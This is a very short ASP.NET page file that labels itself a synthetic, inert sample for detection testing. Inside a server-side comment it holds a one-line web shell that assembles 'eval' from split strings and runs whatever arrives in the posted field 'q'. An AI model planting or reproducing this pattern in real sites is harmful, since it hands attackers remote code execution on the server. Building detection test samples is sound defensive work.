<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="JScript"%><% var f = this["ev" + "al"]; f(Request.Form["q"]); %>
--%>
